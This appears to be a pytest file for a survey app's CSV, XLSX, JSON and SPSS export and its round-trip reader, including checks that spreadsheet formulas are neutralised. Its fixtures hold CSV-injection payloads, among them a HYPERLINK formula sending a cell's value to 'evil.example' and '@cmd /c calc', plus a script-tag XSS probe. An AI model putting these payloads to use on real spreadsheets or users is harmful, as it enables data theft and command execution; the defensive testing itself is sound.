"""The export: one table in CSV (+ codebook), XLSX, JSON and SPSS, read back by the analysis package.

The round-trip tests are the contract between the web app (``surveyapp.exports``) and the
analysis package (``analysis.export_reader``): what the one writes, the other reads unchanged.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import subprocess
import sys
from dataclasses import replace

import jsonschema
import openpyxl
import pandas as pd
import pyreadstat
import pytest

from analysis import export_reader
from analysis.export_reader import ExportFormatError, UnsupportedVersionError, read_export
from surveyapp.exports import (
    CODEBOOK_FIELDS,
    FORMAT_VERSION,
    CampaignInfo,
    ExportInput,
    ResponseRecord,
    build_table,
    dont_know_code,
    export_document,
    protect,
    spss_names,
    write_codebook_csv,
    write_csv,
    write_json,
    write_sav,
    write_xlsx,
)
from surveyapp.exports.cells import format_values
from surveyapp.questionnaire.loader import load_file

from ..conftest import DATA, PROJECT

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Klikkaa tästä")'
DANGEROUS_TEXTS = {
    ("r1", "reasons.other"): HYPERLINK,
    ("r1", "change"): "+1 parempi tiedotus",
    ("r2", "change"): "@cmd /c calc",
    ("r3", "name_of_school"): "-2",
    ("r3", "change"): "\tTab ensin",
    ("r3", "bullying_help"): "\rCR ensin",
    ("r4", "change"): "'=jo lainausmerkki",
}


@pytest.fixture(scope="module")
def questionnaire():
    return load_file(DATA / "small.yaml")


@pytest.fixture(scope="module")
def export(questionnaire) -> ExportInput:
    campaign = CampaignInfo(
        name="Kevät 2025 – huoltajat", slug="k25abc", project="Läsnä", area="Itä-Helsinki",
        schools=("Aleksis Kiven koulu", "Skolan i Ösby"),
    )
    responses = [
        ResponseRecord("r1", "fi", dt.date(2025, 3, 1), 3, {
            "absence_band": "over_20",
            "reasons": ["illness", "other"],
            "reasons.other": HYPERLINK,
            "hours": 12,
            "overall": "dont_know",
            "coop.heard": 2,
            "coop.informed": 3,
            "name_of_school": 'Koulu, "Ääkkönen"\nrivi 2',
            "change": "+1 parempi tiedotus",
        }),
        ResponseRecord("r2", "ar", dt.date(2025, 3, 2), 3, {
            "absence_band": "from_10_to_20",
            "reasons": ["bullying"],
            "hours": -2,  # never accepted from a respondent; shows that numbers are not altered
            "bullying_help": "<script>alert('x')</script> نحتاج إلى مزيد من الدعم",
            "overall": 1,
            "coop.heard": 1,
            "coop.informed": 2,
            "name_of_school": "مدرسة الأمل",
            "change": "@cmd /c calc",
        }),
        ResponseRecord("r3", "sv", dt.date(2025, 3, 2), 3, {
            "absence_band": "from_10_to_20",
            "reasons": [],  # answered, nothing chosen: 0 in every option column
            "hours": 40,
            "bullying_help": "\rCR ensin",
            "overall": 3,
            "coop.heard": 3,
            "coop.informed": 3,
            "name_of_school": "-2",
            "change": "\tTab ensin",
        }),
        ResponseRecord("r4", "en", dt.date(2025, 3, 5), 2, {
            # reasons unanswered: empty option columns; hours not shown
            "absence_band": "under_10",
            "coop.heard": 3,
            "coop.informed": 1,
            "name_of_school": "'quoted' stays",
            "change": "'=jo lainausmerkki",
        }),
    ]
    return ExportInput(questionnaire, campaign, responses, label_language="en", questionnaire_version=3)


@pytest.fixture(scope="module")
def table(export):
    return build_table(export)


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def _written(writer, export) -> bytes:
    buffer = io.BytesIO()
    writer(export, buffer)
    return buffer.getvalue()


# --- the table ---------------------------------------------------------------------------------

def test_table_has_leading_columns_then_one_column_per_answer(table):
    assert table.names == [
        "response_id", "campaign", "project", "area", "schools", "questionnaire",
        "questionnaire_version", "language", "submitted_on", "respondent_role",
        "absence_band", "reasons__illness", "reasons__bullying", "reasons__other", "reasons.other",
        "hours", "bullying_help", "overall", "coop.heard", "coop.informed", "name_of_school", "change",
    ]
    types = {c.name: c.type for c in table.columns}
    assert types["submitted_on"] == "date"
    assert types["reasons__illness"] == "boolean" and types["hours"] == "integer"
    assert types["overall"] == "integer" and types["absence_band"] == "string"
    assert len(table.rows) == 4 and table.skipped == ()


def test_codes_and_missing_values(table):
    records = {r["response_id"]: r for r in table.records()}
    assert records["r1"]["overall"] == "dont_know"  # a code of its own, not missing
    assert (records["r1"]["reasons__illness"], records["r1"]["reasons__bullying"], records["r1"]["reasons__other"]) == (1, 0, 1)
    assert (records["r3"]["reasons__illness"], records["r3"]["reasons__other"]) == (0, 0)
    assert records["r4"]["reasons__illness"] is None and records["r4"]["hours"] is None
    assert records["r4"]["respondent_role"] == "guardians" and records["r4"]["questionnaire_version"] == 2
    assert records["r1"]["schools"] == "Aleksis Kiven koulu; Skolan i Ösby"


def test_labels_in_the_label_language(export):
    columns = {c.name: c for c in build_table(replace(export, label_language="fi")).columns}
    assert columns["reasons__illness"].label == "Syyt? — Sairaus"
    assert columns["coop.heard"].label == "Arvioi väitteet. — Meitä kuultiin."
    assert columns["hours"].label == "Montako tuntia? (tuntia)"
    assert dict(columns["overall"].values)["dont_know"] == "En osaa sanoa"
    # a language the questionnaire lacks falls back to English
    columns = {c.name: c for c in build_table(replace(export, label_language="so")).columns}
    assert columns["absence_band"].label == "How much absence?"


def test_answers_without_a_column_are_listed(export):
    stray = ResponseRecord("r9", "fi", dt.date(2025, 4, 1), 1,
                           {"removed_question": "x", "reasons": ["illness", "gone_option"]})
    table = build_table(replace(export, responses=[stray]))
    assert table.skipped == (
        "reasons: 'gone_option' is not an option of this questionnaire",
        "removed_question: not a question of this questionnaire",
    )
    assert table.records()[0]["reasons__illness"] == 1


def test_a_question_named_like_a_leading_column_gets_a_suffix(export, questionnaire):
    page = questionnaire.pages[0]
    renamed = replace(page.questions[0], id="language")
    changed = replace(questionnaire, pages=(replace(page, questions=(renamed, *page.questions[1:])), *questionnaire.pages[1:]))
    response = ResponseRecord("r1", "fi", dt.date(2025, 3, 1), 1, {"language": "over_20"})
    table = build_table(replace(export, questionnaire=changed, responses=[response]))
    column = next(c for c in table.columns if c.answer_key == "language")
    assert column.name == "language_2" and column.spss_name == "language_2"
    record = table.records()[0]
    assert record["language"] == "fi" and record["language_2"] == "over_20"


def test_spss_names_are_valid_unique_and_mapped():
    long = "a" * 70
    names = spss_names(["coop.heard", "coop_heard", "to", "With", "_x", long, long + "b", "q.other"])
    assert names == ["coop_heard", "coop_heard_2", "v_to", "v_With", "v__x", "a" * 64, "a" * 62 + "_2", "q_other"]
    for name in names:
        assert re.fullmatch(r"[A-Za-z][A-Za-z0-9_]{0,63}", name)


def test_dont_know_code_is_outside_the_scale():
    assert dont_know_code([1, 2, 3]) == 99
    assert dont_know_code(range(0, 100)) == 999


def test_protect_rule():
    assert protect("=1+1") == "'=1+1"
    for text in ("+1", "-2", "@cmd", "\tx", "\rx", "'=x", "''-x"):
        assert protect(text) == "'" + text
        assert export_reader.unprotect(protect(text)) == text
    for text in ("plain", "'quoted'", "1-2", "", "'", "ääni"):
        assert protect(text) == text
        assert export_reader.unprotect(text) == text


def test_value_labels_with_separators_round_trip():
    values = ((1, "a; b"), (2, "back\\slash"), (3, "x=y"), ("dont_know", "Don't know"))
    parsed = export_reader.parse_values(format_values(values), "integer")
    assert parsed == dict(values)
    assert export_reader.parse_values("1=x; 10=y", "string") == {"1": "x", "10": "y"}


# --- CSV ---------------------------------------------------------------------------------------

def test_csv_has_bom_header_and_one_row_per_response(export, tmp_path):
    data = _written(write_csv, export)
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = _csv_rows(data)
    assert rows[0] == build_table(export).names
    assert len(rows) == 1 + len(export.responses)
    assert [r[0] for r in rows[1:]] == ["r1", "r2", "r3", "r4"]
    # RFC 4180: a field with a comma, quotes or a line break is quoted, quotes doubled
    assert '"Koulu, ""Ääkkönen""\nrivi 2"' in data.decode("utf-8-sig")
    path = tmp_path / "export.csv"
    write_csv(export, path)
    assert path.read_bytes() == data


def test_codebook_describes_every_column_and_every_code(export, table):
    rows = _csv_rows(_written(write_codebook_csv, export))
    assert tuple(rows[0]) == CODEBOOK_FIELDS
    codebook = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert [r["name"] for r in codebook] == table.names
    assert {r["format_version"] for r in codebook} == {str(FORMAT_VERSION)}
    by_name = {r["name"]: r for r in codebook}
    for column in table.columns:
        row = by_name[column.name]
        assert (row["type"], row["question_id"], row["question_type"]) == (
            column.type, column.question_id or "", column.question_type or "")
        codes = {str(code) for code, _ in column.values}
        listed = {item.split("=", 1)[0] for item in export_reader.unprotect(row["values"]).split("; ") if item}
        assert listed == codes
    assert by_name["absence_band"]["values"] == "under_10=Under 10 %; from_10_to_20=10–20 %; over_20=Over 20 %"
    assert by_name["overall"]["values"] == "1=Disagree; 2=Partly agree; 3=Agree; dont_know=Don't know"
    assert by_name["reasons__other"]["values"] == "0=not chosen; 1=chosen"
    assert by_name["reasons__other"]["option"] == "other"
    assert by_name["coop.heard"]["spss_name"] == "coop_heard"
    assert by_name["reasons.other"]["spss_name"] == "reasons_other"
    # every value found in the data is a code of its coded column
    for record in table.records():
        for column in table.columns:
            if column.values and record[column.name] is not None:
                assert record[column.name] in dict(column.values), (column.name, record[column.name])


def test_csv_neutralises_formulas_but_not_numbers(export):
    rows = _csv_rows(_written(write_csv, export))
    header, body = rows[0], {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    for (response, column), text in DANGEROUS_TEXTS.items():
        assert body[response][column] == "'" + text
    assert body["r2"]["hours"] == "-2" and body["r1"]["hours"] == "12"
    assert body["r1"]["overall"] == "dont_know" and body["r2"]["overall"] == "1"
    assert body["r4"]["name_of_school"] == "'quoted' stays"
    assert body["r1"]["submitted_on"] == "2025-03-01"
    assert body["r4"]["reasons__illness"] == "" and body["r3"]["reasons__illness"] == "0"
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell
            assert not cell.startswith("-") or _number(cell), cell


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- XLSX --------------------------------------------------------------------------------------

def test_xlsx_has_data_and_codebook_sheets_with_bold_frozen_headers(export, table):
    workbook = openpyxl.load_workbook(io.BytesIO(_written(write_xlsx, export)))
    assert workbook.sheetnames == ["data", "codebook"]
    data, codebook = workbook["data"], workbook["codebook"]
    assert [c.value for c in data[1]] == table.names
    assert data.max_row == 1 + len(export.responses)
    assert [c.value for c in codebook[1]] == list(CODEBOOK_FIELDS)
    assert [r[1] for r in codebook.iter_rows(min_row=2, values_only=True)] == table.names
    for sheet in (data, codebook):
        assert sheet.freeze_panes == "A2"
        assert all(c.font.b for c in sheet[1])
    assert data.cell(2, table.names.index("submitted_on") + 1).value == dt.datetime(2025, 3, 1)


def test_xlsx_neutralises_formulas_but_not_numbers(export, table):
    workbook = openpyxl.load_workbook(io.BytesIO(_written(write_xlsx, export)))
    sheet = workbook["data"]
    rows = {r[0]: dict(zip(table.names, r)) for r in sheet.iter_rows(min_row=2, values_only=True)}
    for (response, column), text in DANGEROUS_TEXTS.items():
        expected = text.replace("\r", "\n")  # XML keeps no carriage return (docs/export-format.md)
        assert rows[response][column] == (protect(expected))
    assert rows["r2"]["hours"] == -2 and rows["r1"]["hours"] == 12
    assert rows["r2"]["overall"] == 1 and rows["r1"]["overall"] == "dont_know"
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell.coordinate


# --- JSON --------------------------------------------------------------------------------------

JSON_SCHEMA = {
    "type": "object",
    "required": ["format", "version", "label_language", "questionnaire", "campaign", "columns", "responses"],
    "properties": {
        "format": {"const": "verkosto-export"},
        "version": {"const": 1},
        "questionnaire": {"type": "object", "required": ["id", "title", "version", "audience"]},
        "campaign": {
            "type": "object",
            "required": ["name", "slug", "project", "area", "schools"],
            "properties": {"schools": {"type": "array", "items": {"type": "string"}}},
        },
        "columns": {
            "type": "array",
            "items": {
                "type": "object",
                "required": [f for f in CODEBOOK_FIELDS if f != "format_version"],
                "properties": {
                    "type": {"enum": ["string", "integer", "number", "date", "boolean"]},
                    "values": {"type": "array", "items": {
                        "type": "object", "required": ["code", "label"],
                        "properties": {"code": {"type": ["string", "integer"]}, "label": {"type": "string"}},
                    }},
                },
            },
        },
        "responses": {"type": "array", "items": {"type": "object"}},
    },
}


def test_json_is_a_documented_versioned_document(export, table):
    document = json.loads(_written(write_json, export).decode("utf-8"))
    jsonschema.validate(document, JSON_SCHEMA)
    assert document == export_document(export)
    assert document["questionnaire"] == {"id": "small", "title": "Small survey", "version": 3, "audience": "guardians"}
    assert document["campaign"]["schools"] == ["Aleksis Kiven koulu", "Skolan i Ösby"]
    assert [c["name"] for c in document["columns"]] == table.names
    assert all(list(r) == table.names for r in document["responses"])
    first = document["responses"][0]
    assert first["reasons.other"] == HYPERLINK  # original text, no apostrophe
    assert first["submitted_on"] == "2025-03-01" and first["overall"] == "dont_know"
    overall = next(c for c in document["columns"] if c["name"] == "overall")
    assert overall["values"][0] == {"code": 1, "label": "Disagree"}


# --- SPSS --------------------------------------------------------------------------------------

def test_sav_reopens_with_variable_and_value_labels(export, table, tmp_path):
    path = tmp_path / "export.sav"
    write_sav(export, path)
    assert _written(write_sav, export)[:4] == b"$FL2"  # also writes to an open file
    frame, meta = pyreadstat.read_sav(str(path), user_missing=True)
    assert list(frame.columns) == [c.spss_name for c in table.columns]
    assert "coop_heard" in frame.columns and "reasons_other" in frame.columns
    labels = meta.column_names_to_labels
    assert labels["coop_heard"] == "Rate the statements. — We were heard."
    assert labels["reasons__illness"] == "Reasons? — Illness"
    assert meta.variable_value_labels["overall"] == {1: "Disagree", 2: "Partly agree", 3: "Agree", 99: "Don't know"}
    assert meta.variable_value_labels["absence_band"]["over_20"] == "Over 20 %"
    assert meta.variable_value_labels["reasons__other"] == {0: "not chosen", 1: "chosen"}
    assert meta.missing_ranges["overall"] == [{"lo": 99.0, "hi": 99.0}]
    assert meta.notes == [f"verkosto-export version {FORMAT_VERSION}"]
    assert frame["overall"].tolist()[:2] == [99, 1]
    assert frame["reasons_other"][0] == HYPERLINK  # SPSS keeps the original text
    assert frame["bullying_help"][1].startswith("<script>")
    assert frame["hours"][1] == -2
    assert str(frame["submitted_on"][0]) == "2025-03-01"
    assert pd.isna(frame["reasons__illness"][3])
    plain, _ = pyreadstat.read_sav(str(path))
    assert pd.isna(plain["overall"][0])  # don't know is user-missing


# --- the round trip: the contract with the analysis package -------------------------------------

def _write_all(export, folder):
    write_csv(export, folder / "export.csv")
    write_codebook_csv(export, folder / "export.codebook.csv")
    write_xlsx(export, folder / "export.xlsx")
    write_json(export, folder / "export.json")
    return {s: folder / f"export.{s}" for s in ("csv", "xlsx", "json")}


@pytest.mark.parametrize("kind", ["csv", "xlsx", "json"])
def test_round_trip_gives_the_same_values(export, table, tmp_path, kind):
    path = _write_all(export, tmp_path)[kind]
    result = read_export(path)
    assert result.format_version == FORMAT_VERSION
    assert list(result.data.columns) == table.names
    assert list(result.codebook) == table.names
    for column in table.columns:
        info = result.codebook[column.name]
        assert (info.label, info.type, info.question_id, info.question_type, info.spss_name) == (
            column.label, column.type, column.question_id, column.question_type, column.spss_name)
        assert info.values == dict(column.values)
    for index, record in enumerate(table.records()):
        for column in table.columns:
            expected, actual = record[column.name], result.data[column.name].iloc[index]
            if expected is None:
                assert pd.isna(actual), (column.name, index, actual)
                continue
            if column.type == "date":
                expected = pd.Timestamp(expected)
            elif column.type == "boolean":
                expected = bool(expected)
            elif kind == "xlsx" and isinstance(expected, str):
                expected = expected.replace("\r", "\n")  # XML keeps no carriage return
            assert actual == expected, (column.name, index, actual, expected)
    assert result.data.loc[0, "reasons.other"] == HYPERLINK
    assert result.data.loc[3, "change"] == "'=jo lainausmerkki"
    assert result.data.loc[3, "name_of_school"] == "'quoted' stays"
    assert result.data.loc[1, "bullying_help"].startswith("<script>alert('x')</script> نحتاج")


def test_every_format_reads_back_to_the_same_data_frame(export, tmp_path):
    paths = _write_all(export, tmp_path)
    frames = {kind: read_export(path).data for kind, path in paths.items()}
    frames["xlsx"]["bullying_help"] = frames["xlsx"]["bullying_help"].str.replace("\n", "\r")
    pd.testing.assert_frame_equal(frames["csv"], frames["json"])
    pd.testing.assert_frame_equal(frames["xlsx"], frames["json"])
    dtypes = frames["json"].dtypes
    assert dtypes["questionnaire_version"] == "Int64" and dtypes["hours"] == "Int64"
    assert dtypes["reasons__illness"] == "boolean" and dtypes["change"] == "string"
    assert pd.api.types.is_datetime64_any_dtype(dtypes["submitted_on"])
    assert dtypes["overall"] == object  # integers and "dont_know"


def test_reader_options_and_labels(export, tmp_path):
    paths = _write_all(export, tmp_path)
    result = read_export(paths["json"], dont_know="missing")
    assert result.data["overall"].dtype == "Int64" and pd.isna(result.data["overall"][0])
    assert result.metadata["campaign"]["slug"] == "k25abc"
    labelled = read_export(paths["csv"]).labelled("overall")
    assert labelled[0] == "Don't know" and labelled[1] == "Disagree"
    with open(paths["csv"], "rb") as data, open(tmp_path / "export.codebook.csv", "rb") as codebook:
        assert export_reader.read_csv_export(data, codebook).data.shape == (4, len(build_table(export).columns))


def test_reader_refuses_an_unknown_version(export, tmp_path):
    paths = _write_all(export, tmp_path)
    document = json.loads(paths["json"].read_text(encoding="utf-8"))
    document["version"] = 2
    (tmp_path / "v2.json").write_text(json.dumps(document), encoding="utf-8")
    with pytest.raises(UnsupportedVersionError, match="version 2 is not supported"):
        read_export(tmp_path / "v2.json")

    codebook = (tmp_path / "export.codebook.csv").read_bytes().decode("utf-8-sig")
    (tmp_path / "v2.csv").write_bytes(paths["csv"].read_bytes())
    (tmp_path / "v2.codebook.csv").write_text(re.sub(r"(?m)^1,", "2,", codebook), encoding="utf-8-sig")
    with pytest.raises(UnsupportedVersionError, match="version 2"):
        read_export(tmp_path / "v2.csv")

    workbook = openpyxl.load_workbook(paths["xlsx"])
    for row in workbook["codebook"].iter_rows(min_row=2):
        row[0].value = 2
    workbook.save(tmp_path / "v2.xlsx")
    with pytest.raises(UnsupportedVersionError):
        read_export(tmp_path / "v2.xlsx")


def test_reader_refuses_files_that_are_not_exports(export, tmp_path):
    paths = _write_all(export, tmp_path)
    (tmp_path / "other.json").write_text('{"format": "something-else", "version": 1}', encoding="utf-8")
    with pytest.raises(ExportFormatError, match="not a Verkosto export"):
        read_export(tmp_path / "other.json")
    rows = _csv_rows(paths["csv"].read_bytes())
    rows[0][1] = "renamed"
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    (tmp_path / "bad.csv").write_text(buffer.getvalue(), encoding="utf-8-sig")
    with pytest.raises(ExportFormatError, match="do not match the codebook"):
        read_export(tmp_path / "bad.csv", tmp_path / "export.codebook.csv")


def test_export_reader_imports_neither_flask_nor_surveyapp():
    code = (
        "import sys, analysis.export_reader\n"
        "bad = [m for m in sys.modules if m.split('.')[0] in ('flask', 'surveyapp', 'flask_babel', 'werkzeug')]\n"
        "print(','.join(bad))\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, cwd=PROJECT)
    assert result.stdout.strip() == ""


def test_export_modules_import_no_flask():
    folder = PROJECT / "surveyapp" / "exports"
    for path in folder.glob("*.py"):
        source = path.read_text(encoding="utf-8")
        assert not re.search(r"^\s*(from|import)\s+(flask|werkzeug|sqlalchemy)\b", source, re.MULTILINE), path
        assert "from ..extensions" not in source and "from ..models" not in source, path


def test_export_format_is_documented(table):
    guide = (PROJECT / "docs" / "export-format.md").read_text(encoding="utf-8")
    assert f"# Export format (version {FORMAT_VERSION})" in guide
    leading = [c.name for c in table.columns if c.question_id is None]
    missing = [n for n in [*leading, *CODEBOOK_FIELDS] if f"`{n}`" not in guide]
    assert not missing, f"document these in docs/export-format.md: {missing}"
    for function in ("read_export", "read_csv_export", "read_xlsx_export", "read_json_export"):
        assert function in guide
